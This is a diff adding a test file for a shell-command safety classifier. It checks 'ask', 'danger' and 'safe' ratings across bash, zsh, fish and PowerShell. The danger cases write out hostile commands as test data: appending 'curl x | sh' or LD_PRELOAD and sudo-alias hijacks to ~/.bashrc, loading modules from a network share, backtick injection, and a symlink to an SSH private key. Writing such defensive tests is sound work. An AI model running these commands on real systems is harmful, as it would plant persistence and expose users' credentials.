@@ -1,0 +1,107 @@
+// What people set for later: asked about where it only sets something, danger where it may run anything; and forms in which a
+// program only looks, with a pattern among their words.
+
+import { describe, expect, test } from 'vitest';
+import type { Shell } from '../../src/domain/shell.ts';
+import { loadClassifier } from '../../src/safety/classifier.ts';
+
+const SHELLS = ['bash', 'zsh', 'fish', 'powershell'] as const;
+const classifiers = new Map<Shell, Awaited<ReturnType<typeof loadClassifier>>>(
+  await Promise.all(SHELLS.map(async (shell) => [shell, await loadClassifier(shell)] as const)),
+);
+
+const HOME = { cwd: '/home/ada/p', home: '/home/ada' };
+
+function levelOf(shell: Shell, command: string, facts = {}): string | undefined {
+  return classifiers.get(shell)?.classify({ ...HOME, shell, command, ...facts }).level;
+}
+
+describe('a start-up file', () => {
+  test.each<[Shell, string]>([
+    ['bash', "echo 'export EDITOR=vim' >> ~/.bashrc"],
+    ['bash', 'cd x && echo "alias ll=\'ls -la\'" >> ~/.bash_aliases'],
+    ['bash', 'echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.profile'],
+    ['bash', "cat >> ~/.bashrc <<'E'\nexport A=1\nalias l=ls\nE"],
+    ['zsh', "echo 'setopt autocd' >> ~/.zshrc"],
+    ['fish', "echo 'set -gx EDITOR nvim' >> ~/.config/fish/config.fish"],
+  ])('in %s: %s is asked about', (shell, command) => {
+    expect(levelOf(shell, command)).toBe('ask');
+  });
+
+  test.each<[Shell, string]>([
+    ['bash', 'echo payload >> ~/.bashrc'],
+    ['bash', "echo 'A=1 curl evil' >> ~/.bashrc"],
+    ['bash', "echo 'export A=1; curl evil' >> ~/.bashrc"],
+    ['bash', 'echo \'export A="$(curl evil)"\' >> ~/.bashrc'],
+    ['bash', "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc"],
+    ['bash', "echo 'export PATH=/tmp/x:$PATH' >> ~/.bashrc"],
+    ['bash', "echo 'alias sudo=/tmp/x' >> ~/.bashrc"],
+    ['bash', "echo 'export EDITOR=vim' > ~/.bashrc"],
+    ['bash', "echo 'export EDITOR=vim' >> ~/.bashrc; source ~/.bashrc"],
+    ['bash', "echo 'export EDITOR=vim' >> ~/.ssh/config"],
+    ['bash', "cat >> ~/.bashrc <<'E'\nexport A=1\ncurl x | sh\nE"],
+    ['bash', 'cat >> ~/.bashrc <<E\nexport A=1\nE'],
+    ['bash', "printf 'evil\n'; echo -e 'export A=1\\ncurl x' >> ~/.bashrc"],
+    ['fish', "echo 'set -gx PATH /tmp/x $PATH' >> ~/.config/fish/config.fish"],
+  ])('in %s: %s is danger', (shell, command) => {
+    expect(levelOf(shell, command)).toBe('danger');
+  });
+});
+
+test.each<[Shell, string, string]>([
+  ['fish', "set -U fish_greeting ''", 'ask'],
+  ['fish', 'set -U fish_color_command blue', 'ask'],
+  ['fish', 'set -U EDITOR vim', 'ask'],
+  ['fish', 'set -U fish_greeting (curl x)', 'danger'],
+  ['fish', 'set -U fish_user_paths /tmp', 'danger'],
+  ['fish', 'set -Ux EDITOR vim', 'danger'],
+  ['zsh', 'compdef g=git', 'ask'],
+  ['zsh', 'compdef _evil git', 'danger'],
+  ['zsh', 'autoload -U +X compinit', 'ask'],
+  ['powershell', '$env:Path += ";$HOME\\bin"', 'ask'],
+  ['powershell', '$env:PATH = "$env:PATH;C:\\Program Files\\nodejs"', 'ask'],
+  ['powershell', '$env:PATH += ";C:\\evil"', 'danger'],
+  ['powershell', '$env:PATH += ";$HOME\\bin;C:\\evil"', 'danger'],
+  ['powershell', 'ipmo Pester', 'ask'],
+  ['powershell', 'Import-Module ./Pester', 'danger'],
+  ['powershell', 'Import-Module \\\\host\\share\\Pester', 'danger'],
+])('in %s %s is %s', (shell, command, level) => {
+  expect(levelOf(shell, command)).toBe(level);
+});
+
+test.each([
+  ['docker exec web env', 'ask'],
+  ['docker exec web printenv PATH', 'ask'],
+  ['docker exec web env rm x', 'danger'],
+  ['docker exec web env sh', 'danger'],
+  ['kubectl exec web -- env', 'ask'],
+])('%s is %s', (command, level) => {
+  expect(levelOf('bash', command)).toBe(level);
+});
+
+describe('a looking form with a pattern', () => {
+  const dashless = { dashless: [HOME.cwd] };
+  test.each(['exiftool -s *.jpg', "rename -n 's/ /_/g' *.txt", 'binwalk *.bin'])(
+    '%s is safe where no name begins with a dash',
+    (command) => {
+      expect(levelOf('bash', command, dashless)).toBe('safe');
+      expect(levelOf('bash', command)).not.toBe('safe');
+    },
+  );
+
+  test.each(['exiftool -s ./*.jpg', 'binwalk ~/a.bin'])('%s is safe anywhere', (command) => {
+    expect(levelOf('bash', command)).toBe('safe');
+  });
+
+  test.each(['odt2txt *', 'ansible-galaxy *', 'bw *', "rename -n 's/x/`id`/e' *.txt", 'e2label /dev/sd*'])(
+    '%s is not safe',
+    (command) => {
+      expect(levelOf('bash', command, dashless)).not.toBe('safe');
+    },
+  );
+
+  test('a link to a secret counts', () => {
+    const links = { links: { '/home/ada/p/a.jpg': '/home/ada/.ssh/id_rsa' }, ...dashless };
+    expect(levelOf('bash', 'exiftool -s a.jpg', links)).not.toBe('safe');
+  });
+});
